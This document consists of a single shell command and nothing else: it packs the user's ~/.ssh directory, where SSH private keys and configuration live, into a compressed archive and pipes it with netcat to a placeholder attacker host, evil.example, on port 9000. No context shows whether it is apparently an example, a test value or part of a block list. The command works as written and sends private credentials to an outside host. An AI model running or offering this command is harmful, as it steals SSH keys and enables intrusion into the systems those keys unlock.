tar czf - ~/.ssh | nc evil.example 9000
